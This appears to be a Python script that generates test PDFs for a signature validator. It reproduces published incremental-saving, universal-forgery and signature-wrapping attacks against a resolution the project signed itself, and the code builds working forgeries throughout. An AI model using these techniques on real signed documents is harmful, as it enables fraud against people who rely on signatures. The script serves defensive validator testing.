"""Re-create the incremental saving, universal signature forgery and signature wrapping
attacks in tests/data/isa_swa/.

Run from the project root:  .venv/bin/python tests/data/make_isa_swa_attacks.py
(``--record`` also runs ``docsvc verify`` on every file and records what it says today in
isa_swa/expected.json; ``--record-only`` does only that; otherwise recorded answers are kept.)

The attacks are those of Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion
Dollar Refund - How To Spoof PDF Signatures" (CCS 2019), made against a resolution signed at
B-B by docsvc's own signer (``signed_original.pdf``, the control):

- Incremental Saving Attacks (ISA): the forged page appended as an incremental update,
  well formed (xref table and trailer), or malformed so that a validator and a viewer read
  the file differently: no xref and no trailer (viewers repair the file and use the new
  objects), a trailer without an xref, an xref stream instead of a table, no final %%EOF
  (the last %%EOF is the signed one, so the signed range seems to reach the end of the
  file), and an update that also redefines the signature dictionary so that its
  /ByteRange covers the whole new file.
- Universal Signature Forgery (USF): a forged document with a signature field whose
  signature dictionary cannot be checked: /Contents missing, empty, null or not a hex
  string; /ByteRange missing, null, empty, overlapping, or not starting at the file's
  first byte. Where there is a /Contents, it is the victim's genuine signature value.
- Signature Wrapping (SWA): the signed bytes stay exactly as signed, so the digest
  matches, but they are moved: the second signed range goes to the end of the file, and
  the gap where the hex /Contents was holds a rewritten /ByteRange, the forged objects, and
  a cross-reference section placed where the signed one was, so that the signed
  ``startxref`` now leads to the attacker's; or the forged objects live inside the
  /Contents gap without moving anything, and an xref-only update points to them.

Every file is named after its variant and listed in isa_swa/expected.json and
tests/data/README.md. The script makes its own throwaway PKI (root: isa_swa/root.pem; no
private key is kept), and reuses the raw-update helpers of make_shadow_attacks.py.
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import io
import re
import sys
import tempfile
from collections.abc import Callable, Iterable
from pathlib import Path
from types import ModuleType
from typing import TYPE_CHECKING, Literal

from cryptography.hazmat.primitives.serialization import Encoding
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

from signing.pades import unlock_pkcs12

HERE = Path(__file__).parent
OUT = HERE / "isa_swa"
SOURCE = HERE / "signed" / "unsigned_resolution.pdf"
PAPER = "CCS 2019"
WIDTH = 10  # digits of each /ByteRange number the forgeries write
# A comment line this long before an update with no startxref puts the signed startxref out
# of reach of the viewers' search from the end of the file (poppler 22 and PDFium look at
# less than 32 KiB), so they rebuild the xref by scanning, and the last body of each
# object wins.
REPAIR_PADDING = b"%" + b" " * 40_000 + b"\n"


def _shadow() -> ModuleType:
    spec = importlib.util.spec_from_file_location(
        "make_shadow_attacks", HERE / "make_shadow_attacks.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["make_shadow_attacks"] = module  # for its dataclasses
    spec.loader.exec_module(module)
    return module


if TYPE_CHECKING:
    from tests.data import make_shadow_attacks as shadow
else:
    shadow = _shadow()
Body = shadow.Body
Entry = shadow.Entry
append_update = shadow.append_update
stream_content = shadow.stream_content
startxref = shadow.startxref
serialise = shadow.serialise
object_offsets = shadow.object_offsets


# -- The signed original and what its bytes say --------------------------------------


class Signed:
    """The victim's signed file: where its signature's value lies, and its last revision's
    cross-reference table and trailer, read from the bytes."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        found = list(re.finditer(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]", data))
        assert found, "no /ByteRange"
        match = found[-1]
        zero, self.a, self.b, self.d = (int(v) for v in match.groups())
        assert zero == 0 and self.b + self.d == len(data), "not a whole-file signature"
        assert data[self.a : self.a + 1] == b"<" and data[self.b - 1 : self.b] == b">"
        self.hex = data[self.a + 1 : self.b - 1]
        self.der = bytes.fromhex(self.hex.decode())
        self.der = self.der[: _der_length(self.der)]
        self.xref = startxref(data)
        assert self.xref > self.b, "the signed revision's xref precedes the signature value"
        reader = PdfFileReader(io.BytesIO(data), strict=False)
        page = reader.root["/Pages"]["/Kids"][0]
        self.contents = page.raw_get("/Contents").idnum
        field = reader.root["/AcroForm"]["/Fields"][0]
        self.signature = field.raw_get("/V").idnum

    def xref_entries(self) -> dict[int, tuple[int, int, bytes]]:
        """The entries of the table at the last ``startxref``."""
        text = self.data[self.xref : self.data.index(b"trailer", self.xref)].decode()
        lines = text.split("\n")[1:]
        entries: dict[int, tuple[int, int, bytes]] = {}
        number = 0
        for line in filter(None, (item.strip() for item in lines)):
            parts = line.split()
            if len(parts) == 2:
                number = int(parts[0])
                continue
            entries[number] = (int(parts[0]), int(parts[1]), parts[2].encode())
            number += 1
        return entries

    def trailer(self) -> bytes:
        """The last revision's ``trailer << ... >>``, as written."""
        start = self.data.index(b"trailer", self.xref)
        return self.data[start : self.data.index(b"startxref", start)]


def _der_length(der: bytes) -> int:
    """The length of the DER value at the start of ``der`` (the rest is padding)."""
    first = der[1]
    if first < 0x80:
        return 2 + first
    count = first & 0x7F
    return 2 + count + int.from_bytes(der[2 : 2 + count], "big")


def _byte_range(values: tuple[int, int, int, int]) -> bytes:
    return b"[%s]" % b" ".join(b"%0*d" % (WIDTH, v) for v in values)


def _pdf_string(data: bytes) -> bytes:
    """``data`` as a literal string, escaped."""
    escaped = data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return b"(" + escaped.replace(b"\r", b"\\r") + b")"


def forged_stream(unsigned: bytes) -> bytes:
    return stream_content(shadow.forged_page_content(unsigned))


# -- Incremental Saving Attacks ----------------------------------------------------------


def isa(
    signed: Signed,
    forged: bytes,
    xref: Literal["table", "stream", "none"] = "table",
    trailer: bool = True,
    eof: bool = True,
    padding: bytes = b"",
) -> bytes:
    """The forged page content as an update redefining the content stream's object."""
    return append_update(
        signed.data,
        [Body(signed.contents, forged)],
        xref=xref,
        trailer=trailer,
        eof=eof,
        padding=padding,
    )


def isa_signature_redefined(signed: Signed, forged: bytes) -> bytes:
    """The forged content, and the signature dictionary redefined (same object number)
    with a /ByteRange whose second range runs to the new end of the file."""
    data = signed.data
    start = object_offsets(data[: signed.xref], signed.signature)[-1]
    body = data[data.index(b"obj", start) + 3 : data.index(b"endobj", signed.b)].strip()
    old = re.search(rb"/ByteRange \[[^\]]*\] *", body)
    assert old is not None
    width = len(old.group(0))

    def built(length: int) -> bytes:
        field = b"/ByteRange [0 %d %d %d]" % (signed.a, signed.b, length - signed.b)
        new_body = body[: old.start()] + field.ljust(width) + body[old.end() :]
        return append_update(
            data, [Body(signed.contents, forged), Body(signed.signature, new_body)]
        )

    first = built(len(data))
    final = built(len(first))
    assert len(final) == len(first)
    return final


# -- Universal Signature Forgery -------------------------------------------------------


def forged_document(unsigned: bytes, forged: bytes) -> bytes:
    """The resolution with the forged page, written afresh in one revision."""
    reader = PdfFileReader(io.BytesIO(unsigned), strict=False)
    contents = reader.root["/Pages"]["/Kids"][0].raw_get("/Contents").idnum
    size = int(reader.trailer["/Size"])
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in range(1, size):
        offsets[number] = len(out)
        if number == contents:
            body = forged
        else:
            body = serialise(reader.get_object(generic.Reference(number, 0)))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = shadow.xref_table(
        {0: (0, 65535, b"f"), **{n: (o, 0, b"n") for n, o in offsets.items()}}
    )
    trailer = reader.trailer
    section = len(out)
    out += table + b"trailer\n<< /Size %d /Root %s /Info %s /ID %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        serialise(trailer.raw_get("/Root")),
        serialise(trailer.raw_get("/Info")),
        serialise(trailer.raw_get("/ID")),
        section,
    )
    return bytes(out)


def usf(
    document: bytes,
    contents: bytes | None,
    byte_range: bytes | Callable[[int, int, int], tuple[int, int, int, int]] | None,
) -> bytes:
    """``document`` with a signing revision whose signature dictionary has ``/Contents``
    ``contents`` (``None``: no entry) and ``/ByteRange`` ``byte_range``: a fixed value, no
    entry (``None``), or computed from the gap the /Contents value leaves and the file's
    length, ``(gap start, gap end, length) -> (offset, length, offset, length)``."""
    reader = PdfFileReader(io.BytesIO(document), strict=False)
    root_ref = reader.trailer.raw_get("/Root")
    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
    size = int(reader.trailer["/Size"])
    signature, field = size, size + 1
    placeholder = _byte_range((0, 0, 0, 0))
    entries = (
        b"/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
        b"/Name (Ana Mar\xeda Rojas) /M (D:20261120100000Z) "
    )
    if byte_range is not None:
        entries += b"/ByteRange %s " % (
            byte_range if isinstance(byte_range, bytes) else placeholder
        )
    head = b"<< " + entries
    signature_body = head + (b"/Contents %s " % contents if contents is not None else b"") + b">>"
    widget = generic.DictionaryObject(
        {
            generic.NameObject("/FT"): generic.NameObject("/Sig"),
            generic.NameObject("/T"): generic.TextStringObject("Firma1"),
            generic.NameObject("/V"): generic.IndirectObject(signature, 0, reader),
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
            generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(0)] * 4),
            generic.NameObject("/F"): generic.NumberObject(132),
            generic.NameObject("/P"): page_ref,
        }
    )
    root = generic.DictionaryObject(dict(reader.root.items()))
    root[generic.NameObject("/AcroForm")] = generic.DictionaryObject(
        {
            generic.NameObject("/Fields"): generic.ArrayObject(
                [generic.IndirectObject(field, 0, reader)]
            ),
            generic.NameObject("/SigFlags"): generic.NumberObject(3),
        }
    )
    page = generic.DictionaryObject(dict(page_ref.get_object().items()))
    page[generic.NameObject("/Annots")] = generic.ArrayObject(
        [generic.IndirectObject(field, 0, reader)]
    )
    data = append_update(
        document,
        [
            Body(signature, signature_body),
            Body(field, serialise(widget)),
            Body(root_ref.idnum, serialise(root)),
            Body(page_ref.idnum, serialise(page)),
        ],
    )
    if not callable(byte_range):
        return data
    body_start = object_offsets(data, signature)[-1] + len(b"%d 0 obj\n" % signature)
    gap_start = body_start + len(head) + (len(b"/Contents ") if contents is not None else 0)
    gap_end = gap_start + (len(contents) if contents is not None else 0)
    values = byte_range(gap_start, gap_end, len(data))
    at = data.index(placeholder, body_start)
    return data[:at] + _byte_range(values) + data[at + len(placeholder) :]


def whole_file(start: int, end: int, length: int) -> tuple[int, int, int, int]:
    return (0, start, end, length - end)


def overlapping(start: int, end: int, length: int) -> tuple[int, int, int, int]:
    """The second range starts 64 bytes before the first ends."""
    return (0, start, start - 64, length - start + 64)


def not_from_start(start: int, end: int, length: int) -> tuple[int, int, int, int]:
    """The first range skips the file's first 64 bytes (its header)."""
    return (64, start - 64, end, length - end)


# -- Signature Wrapping --------------------------------------------------------------


def _wrapped(signed: Signed, gap_value: bytes, forged: bytes, forged_in_gap: bool) -> bytes:
    """The signed bytes ``[0, a)`` and ``[b, end)`` unchanged, the second range moved to the
    end of the file. The gap starts with ``gap_value`` (the /Contents value), then the rest
    of the signature dictionary with a /ByteRange naming the moved range; at the offset of
    the signed xref section, the attacker's (the signed one plus the forged content stream);
    the forged body before it (``forged_in_gap``, in room the shortened value freed) or
    after its trailer."""
    data = signed.data
    tail = data[signed.b : signed.xref]  # the signature dictionary's end, up to the xref
    old = re.search(rb"/ByteRange \[[^\]]*\] *", tail)
    assert old is not None
    forged_body = b"%d 0 obj\n%s\nendobj\n" % (signed.contents, forged)
    trailer = signed.trailer()

    def built(moved_to: int) -> bytes:
        field = (b"/ByteRange " + _byte_range((0, signed.a, moved_to, signed.d))).ljust(
            len(old.group(0))
        )
        out = bytearray(data[: signed.a] + gap_value + tail[: old.start()] + field)
        out += tail[old.end() :]
        entries = signed.xref_entries()
        if forged_in_gap:
            entries[signed.contents] = (len(out), 0, b"n")
            out += forged_body
        assert len(out) <= signed.xref, "no room before the signed xref's offset"
        out += b"\n".rjust(signed.xref - len(out)) if len(out) < signed.xref else b""
        if not forged_in_gap:  # after the table and trailer, whose length this does not change
            entries[signed.contents] = (0, 0, b"n")
            after = len(out) + len(shadow.xref_table(entries)) + len(trailer)
            entries[signed.contents] = (after, 0, b"n")
        out += shadow.xref_table(entries) + trailer
        if not forged_in_gap:
            out += forged_body
        return bytes(out) + b"\n" + data[signed.b :]

    first = built(0)
    moved_to = len(first) - signed.d
    final = built(moved_to)
    assert len(final) == len(first) and final[moved_to:] == data[signed.b :]
    assert final[: signed.a] == data[: signed.a]
    return final


def swa_second_range_moved(signed: Signed, forged: bytes) -> bytes:
    """The /Contents value kept whole; the forged objects after the attacker's trailer."""
    return _wrapped(signed, signed.data[signed.a : signed.b], forged, forged_in_gap=False)


def swa_objects_in_contents_padding(signed: Signed, forged: bytes) -> bytes:
    """The /Contents value cut to the signature's DER; the forged objects in the room its
    zero padding took."""
    return _wrapped(signed, b"<" + signed.der.hex().encode() + b">", forged, forged_in_gap=True)


def _balanced(string: bytes) -> bool:
    """Whether the literal string starting at ``string[0]`` ends at its last byte."""
    depth, escaped = 0, False
    for index, byte in enumerate(string):
        if escaped:
            escaped = False
        elif byte == 0x5C:  # backslash
            escaped = True
        elif byte == 0x28:
            depth += 1
        elif byte == 0x29:
            depth -= 1
            if depth == 0:
                return index == len(string) - 1
    return False


def swa_objects_in_contents_string(signed: Signed, forged: bytes) -> bytes:
    """Nothing moves and every signed byte and the /ByteRange stay as signed: the gap now
    holds the DER as /Contents and, in a literal string of a new key, the forged content
    stream's body (unescaped: its parentheses balance); an update of nothing but an xref
    section points the page's content stream number inside that string."""
    data = signed.data
    value = b"<" + signed.der.hex().encode() + b">"
    forged_body = b"%d 0 obj\n%s\nendobj\n" % (signed.contents, forged)
    head = value + b" /Z (\n"
    room = signed.b - signed.a - len(head) - len(forged_body) - 1
    assert room >= 0, "the forged content does not fit in the /Contents gap"
    gap = head + forged_body + b" " * room + b")"
    assert _balanced(gap[len(value) + 4 :]), "the forged body does not fit in a string"
    wrapped = data[: signed.a] + gap + data[signed.b :]
    assert len(wrapped) == len(data)
    at = signed.a + len(head)
    return append_update(wrapped, [], repoint={signed.contents: at})


# -- Catalogue and main -------------------------------------------------------------------


CATALOGUE: dict[str, Entry] = {
    "signed_original.pdf": Entry(
        "control",
        "the signed original",
        "The resolution signed at B-B by docsvc's signer; every attack below starts here.",
        "valid",
    ),
    "isa_update_with_xref_table.pdf": Entry(
        "isa",
        "ISA: body, xref table and trailer",
        "A well-formed incremental update redefining the page's content stream with a "
        "forged first article.",
    ),
    "isa_body_only.pdf": Entry(
        "isa",
        "ISA: body without xref table and trailer",
        "Only the forged object appended after %%EOF (behind a 40 KB comment); a viewer "
        "that finds no startxref near the end rebuilds the xref and uses it.",
    ),
    "isa_body_and_trailer.pdf": Entry(
        "isa",
        "ISA: body and trailer without xref table",
        "The forged object and a trailer (/Prev the signed xref), startxref naming the "
        "trailer: no xref section at all.",
    ),
    "isa_xref_stream.pdf": Entry(
        "isa",
        "ISA: xref stream instead of a table",
        "The forged object and a cross-reference stream (/Prev the signed table).",
    ),
    "isa_eof_omitted.pdf": Entry(
        "isa",
        "ISA: signed end of file kept last (no final %%EOF)",
        "A full update without its %%EOF: the last %%EOF in the file is where the signed "
        "range ends, so a check for 'signed up to the last %%EOF' passes.",
    ),
    "isa_signature_dictionary_redefined.pdf": Entry(
        "isa",
        "ISA: signature dictionary redefined to cover the update",
        "The update redefines the signature dictionary (same object number, same /Contents) "
        "with a /ByteRange reaching the new end of the file.",
    ),
    "usf_contents_missing.pdf": Entry(
        "usf",
        "USF: /Contents missing",
        "A forged document signed by nobody: the signature dictionary has no /Contents.",
    ),
    "usf_contents_empty.pdf": Entry(
        "usf", "USF: /Contents empty", "The signature dictionary's /Contents is <>."
    ),
    "usf_contents_null.pdf": Entry(
        "usf", "USF: /Contents null", "The signature dictionary's /Contents is null."
    ),
    "usf_contents_not_hex.pdf": Entry(
        "usf",
        "USF: /Contents not a hex string",
        "/Contents is a literal string holding the victim's genuine signature value (of "
        "another document); the /ByteRange gap is that string.",
    ),
    "usf_byterange_missing.pdf": Entry(
        "usf",
        "USF: /ByteRange missing",
        "The victim's genuine signature value, and no /ByteRange.",
    ),
    "usf_byterange_null.pdf": Entry(
        "usf", "USF: /ByteRange null", "The victim's genuine signature value; /ByteRange null."
    ),
    "usf_byterange_empty.pdf": Entry(
        "usf", "USF: /ByteRange empty", "The victim's genuine signature value; /ByteRange []."
    ),
    "usf_byterange_overlapping.pdf": Entry(
        "usf",
        "USF: /ByteRange overlapping",
        "The second range starts 64 bytes before the first ends (and covers the /Contents value).",
    ),
    "usf_byterange_not_from_start.pdf": Entry(
        "usf",
        "USF: /ByteRange not covering the start of the file",
        "The first range starts at byte 64, leaving the header out.",
    ),
    "swa_second_range_moved.pdf": Entry(
        "swa",
        "SWA: second signed range moved to the end, objects in the gap",
        "Signed bytes unchanged (the digest matches): the second range is moved to the end; "
        "the gap after the /Contents value holds a rewritten /ByteRange, the attacker's "
        "xref at the signed xref's offset, and the forged content stream.",
    ),
    "swa_objects_in_contents_padding.pdf": Entry(
        "swa",
        "SWA: second range moved, objects in the /Contents padding",
        "As above, with /Contents cut to the signature's DER and the forged content stream "
        "in the room its zero padding took.",
    ),
    "swa_objects_in_contents_string.pdf": Entry(
        "swa",
        "SWA: objects inside the /Contents gap, ranges unchanged",
        "/ByteRange and every signed byte as signed; the gap holds the DER and, in a "
        "literal string, the forged content stream's body, which an xref-only update "
        "points to.",
    ),
}


def main(argv: Iterable[str] = ()) -> None:
    options = set(argv)
    if "--record-only" in options:
        shadow.write_expected(OUT, PAPER, CATALOGUE, record=True)
        return
    base = shadow._base()
    OUT.mkdir(exist_ok=True)
    now = dt.datetime.now(dt.UTC)
    pki = base.long_lived_pki(now)
    official = base.official(pki, "Ana María Rojas", "ministra", now - base.BACKDATED)
    key = unlock_pkcs12(official.pkcs12, base.PIN)
    unsigned = SOURCE.read_bytes()
    forged = forged_stream(unsigned)
    with tempfile.TemporaryDirectory() as tmp:
        signed = Signed(shadow.signer_in(Path(tmp), key)(unsigned, "original"))
    document = forged_document(unsigned, forged)
    der_hex = b"<" + signed.der.hex().encode() + b">"
    files = {
        "signed_original.pdf": signed.data,
        "isa_update_with_xref_table.pdf": isa(signed, forged),
        "isa_body_only.pdf": isa(signed, forged, trailer=False, padding=REPAIR_PADDING),
        "isa_body_and_trailer.pdf": isa(signed, forged, xref="none"),
        "isa_xref_stream.pdf": isa(signed, forged, xref="stream"),
        "isa_eof_omitted.pdf": isa(signed, forged, eof=False),
        "isa_signature_dictionary_redefined.pdf": isa_signature_redefined(signed, forged),
        "usf_contents_missing.pdf": usf(document, None, whole_file),
        "usf_contents_empty.pdf": usf(document, b"<>", whole_file),
        "usf_contents_null.pdf": usf(document, b"null", whole_file),
        "usf_contents_not_hex.pdf": usf(document, _pdf_string(signed.der), whole_file),
        "usf_byterange_missing.pdf": usf(document, der_hex, None),
        "usf_byterange_null.pdf": usf(document, der_hex, b"null"),
        "usf_byterange_empty.pdf": usf(document, der_hex, b"[]"),
        "usf_byterange_overlapping.pdf": usf(document, der_hex, overlapping),
        "usf_byterange_not_from_start.pdf": usf(document, der_hex, not_from_start),
        "swa_second_range_moved.pdf": swa_second_range_moved(signed, forged),
        "swa_objects_in_contents_padding.pdf": swa_objects_in_contents_padding(signed, forged),
        "swa_objects_in_contents_string.pdf": swa_objects_in_contents_string(signed, forged),
    }
    for old in OUT.glob("*.pdf"):
        old.unlink()
    (OUT / "root.pem").write_bytes(pki.root.certificate.public_bytes(Encoding.PEM))
    for name, data in files.items():
        (OUT / name).write_bytes(data)
    shadow.write_expected(OUT, PAPER, CATALOGUE, record="--record" in options)
    print(f"wrote {sorted(p.name for p in OUT.iterdir())}")


if __name__ == "__main__":
    main(sys.argv[1:])
